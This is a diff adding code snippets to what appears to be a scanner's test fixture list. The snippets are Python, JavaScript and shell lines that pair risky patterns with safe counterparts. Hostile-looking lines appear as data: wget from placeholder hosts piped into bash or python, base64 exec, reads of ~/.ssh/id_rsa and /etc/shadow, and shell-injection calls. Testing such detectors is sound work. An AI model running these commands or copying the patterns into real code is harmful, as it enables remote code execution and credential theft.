@@ -35,6 +35,10 @@ SNIPPETS = [
     (".dockerfile", "#", "FROM base\nRUN wget https://get.invalid/a.sh | bash\n"),
     (".py", "#", 'blob = "' + "".join(chr(97 + i * 7 % 26) + str(i * 3 % 10) + chr(65 + i * 11 % 26) for i in range(30)) + '"\nexec(base64.b64decode(blob))\nopen("~/.bashrc", "a").write(line)\nopen(path + name)\n'),
     (".py", "#", "def broken(:\n    pass\n"),
+    (".py", "#", 'hashlib.sha1(secret_value).hexdigest()\nhashlib.md5(block)\nmarshal.loads(blob)\nyaml.load(text, Loader=yaml.SafeLoader)\nsubprocess.call("ls " + folder, shell=True)\nsubprocess.run("ls", shell=True)\nsubprocess.run(parts, shell=False)\n'),
+    (".py", "#", 'requests.get("http://localhost:8080/x")\nrequests.post("https://h.invalid/api/v1")\nopen("~/.ssh/id_rsa")\nrandom.shuffle(cards)\ncursor.execute(f"SELECT a FROM b")\ncursor.execute("SELECT 1")\nos.system("a" + b)\nprint(os.environ["HOME"])\nprint(os.environ)\n'),
+    (".js", "//", "const n = Math.random();\nbox.innerHTML = text;\nel.outerHTML = `${props.name}`;\nJSON.parse(userInput);\nfs.readFile(base + name, done);\nfetch('https://api.github.com/x');\nchild_process.exec(`ls ${dir}`);\nnew Function('a', b)('c');\natob(x); eval(y)\nreturn f'<b>{x}'\n"),
+    (".sh", "#", "cat /etc/shadow\nsudo chmod u+s tool\nsudo ls\ncrontab -e\nls /etc/cron.daily\nsystemctl daemon-reload\ncp x ~/.config/autostart\ndocker run img | sh\ngo get http://x.invalid/y\npip install git+https://pypi.org/x\nnpm install https://registry.npmjs.org/z\nwget https://x.invalid/y | python\nTOKEN='AbCdEfGhIjKlMnOpQrSt1234'\npassword: 'your_password'\nreg add HKEY_LOCAL_MACHINE\n"),
 ]
 
 
